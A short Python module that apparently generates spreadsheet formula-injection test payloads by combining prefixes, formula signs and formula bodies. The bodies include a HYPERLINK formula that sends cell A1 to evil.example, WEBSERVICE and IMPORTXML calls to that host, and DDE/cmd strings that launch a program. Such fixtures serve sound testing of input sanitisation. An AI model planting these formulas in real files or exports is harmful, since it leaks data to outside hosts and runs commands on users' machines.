"""Texts that a spreadsheet would run, as customers send them: signs, beginnings, functions, ways out of a cell."""

from __future__ import annotations

from itertools import islice, product

__all__ = ["PAYLOADS"]

SIGNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "=+", "=-", "+=", "@=", "==")
BEFORE = (
    "",
    " ",
    "\u3000",
    "\u00a0",
    "\t",
    "\r",
    "\n",
    "\x00",
    "\u200b",
    "\ufeff",
    "\u202e",
    " \t",
    "x;",
    "x,",
    'x"\t',
    '"',
    'x",',
)
BODIES = (
    "1+1",
    "SUM(1,2)",
    'HYPERLINK("https://evil.example/?x="&A1,"receipt")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("https://evil.example")',
    'IMPORTXML("https://evil.example","//a")',
    'DDE("cmd";"/C calc";"x")',
    "A1+A2",
)
PAYLOADS = tuple(islice((b + s + f for f, s, b in product(BODIES, SIGNS, BEFORE)), None, None, 3))
